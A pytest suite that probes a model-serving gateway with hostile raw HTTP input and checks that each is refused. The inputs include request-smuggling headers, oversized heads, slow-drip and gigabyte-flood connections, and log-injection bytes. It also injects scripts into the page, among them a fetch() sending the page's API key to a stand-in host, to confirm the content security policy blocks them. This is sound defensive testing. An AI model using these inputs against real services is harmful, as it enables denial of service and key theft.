"""The running service as a stranger with a socket finds it: rows 63 to 66 and 85 of the bad-input table, and its pages.

What each of these does by itself is tested in tests/gateway; here stands that all of it is where Serve put it.
"""

from __future__ import annotations

import asyncio
import json
import os
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import psutil
import pytest

from tests.browser import open_browser
from tests.conftest import Server

HOST = b"Host: 127.0.0.1\r\n"
LIVE = b"GET /health/live HTTP/1.1\r\n" + HOST + b"\r\n"
PATIENCE = 60.0
IDLE = 500
MOST_GROWTH_BYTES = 150 * 1024 * 1024
"""Of a process, by a body of gigabytes."""


@asynccontextmanager
async def connected(server: Server) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection for a while."""
    address = urlsplit(server.url)
    reader, writer = await asyncio.open_connection(address.hostname, address.port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def say(server: Server, data: bytes) -> tuple[bytes, float]:
    """Send some bytes; answer what comes until the server closes, and after how many seconds."""
    began = time.monotonic()
    async with connected(server) as (reader, writer), asyncio.timeout(PATIENCE):
        writer.write(data)
        return await reader.read(), time.monotonic() - began


async def is_well(server: Server) -> bool:
    """Whether a good request is served."""
    async with httpx.AsyncClient(trust_env=False, timeout=PATIENCE) as client:
        return (await client.get(f"{server.url}/v1/models")).status_code == 200


def key_header(server: Server) -> bytes:
    return f"Authorization: Key {server.key}\r\n".encode()


@pytest.mark.parametrize(
    ("head", "status"),
    [
        (b"POST /fal-ai/svd HTTP/1.1\r\n%sContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400),  # 66
        (b"POST /fal-ai/svd HTTP/1.1\r\n%sTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", 400),
        (b"POST /fal-ai/svd HTTP/1.1\r\n%sTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", 400),
        (b"GET /health/live HTTP/1.1\r\n%sX-A: b\r\n c\r\n\r\n", 400),
        (b"GET /health/live HTTP/1.1\n%s\n", 400),
        (b"GET /health/live HTTP/1.1\r\n%sHost: other\r\n\r\n", 400),
        (b"GET /health/live HTTP/1.1\r\n%sX-A: " + b"a" * 65536 + b"\r\n\r\n", 431),  # 65
        (b"GET /health/live HTTP/1.1\r\n%s" + b"".join(b"X-%x: a\r\n" % n for n in range(1000)) + b"\r\n", 431),
        (b"GET /" + b"a" * 65536 + b" HTTP/1.1\r\n%s\r\n", 414),
        (b"GET /health/live?" + b"a" * 1_000_000 + b" HTTP/1.1\r\n%s\r\n", 414),
        (b"PRI * HTTP/2.0\r\n%s\r\nSM\r\n\r\n", 400),  # 85
        (b"CONNECT example.com:443 HTTP/1.1\r\n%s\r\n", 400),
        (b"TRACE /health/live HTTP/1.1\r\n%sConnection: close\r\n\r\n", 405),
        (b"GET /v1/models HTTP/1.1\r\n%sUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", 400),
        (
            b"GET /v1/models HTTP/1.1\r\n%sUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
            403,
        ),
    ],
)
async def test_what_is_refused_below_the_routes(server: Server, head: bytes, status: int) -> None:
    answer, _ = await say(server, head.replace(b"%s", HOST))
    assert answer.startswith(b"HTTP/1.1 %d " % status)
    assert answer.count(b"HTTP/1.1 ") == 1
    assert b"uvicorn" not in answer
    assert await is_well(server)


@pytest.mark.parametrize(
    "header",
    [
        b"X-Request-Id: \xff",
        b"Serve-Multiplexed-Model-Id: \xff",
        b"X-Session-Id: \xff",
        b"X-Request-Timeout-Seconds: \xff",
        b"X-Request-Timeout-Seconds: 0.000001",
        b"X-Request-Disconnect-Disabled: \xff",
    ],
)
async def test_serve_is_not_steered(server: Server, header: bytes) -> None:
    head = b"GET /health/live HTTP/1.1\r\n" + HOST + header + b"\r\nConnection: close\r\n\r\n"
    answer, _ = await say(server, head)
    assert answer.startswith(b"HTTP/1.1 200 OK\r\n")


async def test_the_head_of_an_answer_comes_without_a_body(server: Server) -> None:
    again = LIVE.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
    answer, _ = await say(server, LIVE.replace(b"GET", b"HEAD") + again)
    first, _, rest = answer.partition(b"\r\n\r\n")
    assert first.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b"\r\ncontent-length: 17" in first
    assert rest.startswith(b"HTTP/1.1 200 OK\r\n")  # not the body of the first


async def test_who_is_slow_is_cut_off_and_holds_up_nobody(server: Server) -> None:  # 64
    """Hundreds who say nothing, one who drips a head, one a body; meanwhile others are served."""

    async def drip(data: bytes, beginning: bytes = b"") -> tuple[bytes, float]:
        began = time.monotonic()
        async with connected(server) as (reader, writer):
            writer.write(beginning)
            reading = asyncio.create_task(reader.read())
            for byte in data:
                writer.write(bytes([byte]))
                await asyncio.wait([reading], timeout=1)
                if reading.done():
                    break
            return await reading, time.monotonic() - began

    async def serve_others() -> list[bool]:
        return [await is_well(server) for _ in range(20)]

    body = b"POST /fal-ai/svd HTTP/1.1\r\n" + HOST + key_header(server) + b"Content-Length: 100000\r\n\r\n"
    tasks = [say(server, b"") for _ in range(IDLE)]
    idle, head, slow, well = await asyncio.gather(
        asyncio.gather(*tasks), drip(b"GET /" + b"a" * 60), drip(b"{" * 90, body), serve_others()
    )
    assert all(well)
    assert all(answer == b"" and 9 < seconds < 30 for answer, seconds in idle)
    assert head[0].startswith(b"HTTP/1.1 408 ")
    assert 9 < head[1] < 20
    assert slow[0].startswith(b"HTTP/1.1 408 ")
    assert 29 < slow[1] < 50


@pytest.mark.parametrize("is_told", [True, False])
@pytest.mark.parametrize("path", [b"/fal-ai/svd", b"/queue/fal-ai/svd", b"/files/upload"])
async def test_a_body_of_gigabytes_is_refused_and_costs_nothing(server: Server, path: bytes, is_told: bool) -> None:
    """63. The size is refused before or while it comes; nobody reads the rest, and nothing is kept."""
    size = 2 * 1024**3
    if path == b"/files/upload" and not is_told:
        pytest.skip("a file of a gigabyte is one that may be sent")
    length = b"Content-Length: %d" % size if is_told else b"Transfer-Encoding: chunked"
    head = b"POST %s HTTP/1.1\r\n%s%s%s\r\n\r\n" % (path, HOST, key_header(server), length)
    before = peaks(server)
    async with connected(server) as (reader, writer), asyncio.timeout(PATIENCE * 2):
        writer.write(head)
        reading = asyncio.create_task(reader.read())
        sent = await flood(writer, reading, is_told, size)
        answer = await reading
    growth = {name: peak - before[name] for name, peak in peaks(server).items()}
    print(f"{path.decode()}: {sent / 1024**2:.0f} MiB sent, peaks grew by", growth)
    assert answer.startswith(b"HTTP/1.1 413 ")
    assert sent < 80 * 1024**2
    assert max(growth.values()) < MOST_GROWTH_BYTES
    assert await is_well(server)


async def flood(writer: asyncio.StreamWriter, reading: asyncio.Task[bytes], is_told: bool, size: int) -> int:
    """Send as much as is taken."""
    piece, sent = b"x" * 65536, 0
    while sent < size and not reading.done():
        writer.write(piece if is_told else b"10000\r\n" + piece + b"\r\n")
        try:
            await writer.drain()
        except ConnectionError:
            break
        sent += len(piece)
        await asyncio.sleep(0)
    return sent


def peaks(server: Server) -> dict[str, int]:
    """The most memory that the proxy and the gateway of a service have had so far, in bytes."""
    found = {}
    for process in psutil.Process(server.process.pid).children(recursive=True):
        name = " ".join(process.cmdline())
        for part in ("ProxyActor", "Gateway"):
            if part in name:
                status = Path(f"/proc/{process.pid}/status").read_text()
                found[part] = int(status.partition("VmHWM:")[2].split()[0]) * 1024
    assert set(found) == {"ProxyActor", "Gateway"}
    return found


async def test_no_call_leaves_a_line_in_a_log(server: Server) -> None:
    mark = f"mark{os.getpid()}"
    async with httpx.AsyncClient(trust_env=False, base_url=server.url, timeout=PATIENCE) as client:
        for path in (f"/{mark}", f"/fal-ai/svd?{mark}=1", f"/v1/models?{mark}", f"/queue/fal-ai/svd/requests/{mark}"):
            await client.get(path, headers={"authorization": f"Key {mark}:{mark}"})
    await say(server, b"GET /" + mark.encode() + b" \x1b[31m HTTP/1.1\r\n\r\n")
    assert mark not in server.log.read_text(errors="replace")


async def test_the_pages_work_under_their_policy(server: Server, tmp_path: Path) -> None:
    async with open_browser(tmp_path / "profile") as browser:
        await browser.open(f"{server.url}/models/fal-ai/svd#key={server.key}")
        await browser.wait_for("document.querySelector('.example')")
        await browser.value("document.querySelector('.example').click()")
        await browser.wait_for("document.querySelector('.picture').naturalWidth > 0")
        await browser.value(MAKE_A_CLIP)
        await browser.wait_for("document.getElementById('video')?.readyState >= 2")
        assert await browser.value("document.getElementById('status').textContent") == "Done"
        clip = await browser.value("document.getElementById('video').src")

        await browser.open(clip)
        await browser.wait_for("document.querySelector('video')?.readyState >= 2")
        await browser.open(f"{server.url}/files/samples/landscape.jpg")
        await browser.wait_for("document.querySelector('img')?.naturalWidth > 0")
        await browser.open(f"{server.url}/models/fal-ai/svd/api")
        await browser.wait_for("document.styleSheets[0]?.cssRules.length > 0 && document.querySelector('article')")
        assert browser.complaints == []


MAKE_A_CLIP = """
  document.getElementById("steps").value = "1";
  document.getElementById("run").click();
"""


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.harm = true'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'data:,window.harm = true'}))",
        "fetch('http://127.0.0.2:9/?' + document.getElementById('key').value).catch(() => {})",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://127.0.0.2'}))",
    ],
)
async def test_what_gets_into_a_page_can_do_nothing(server: Server, tmp_path: Path, attack: str) -> None:
    async with open_browser(tmp_path / "profile") as browser:
        await browser.open(f"{server.url}/models/fal-ai/svd")
        await browser.wait_for("document.getElementById('image_url')")
        await browser.value(attack)
        async with asyncio.timeout(PATIENCE):
            while not browser.complaints:
                await browser.value("new Promise((done) => setTimeout(done, 100))")
        assert "contentSecurityPolicy" in json.dumps(browser.complaints) or "Content Security Policy" in json.dumps(
            browser.complaints
        )
        assert await browser.value("window.harm") is None
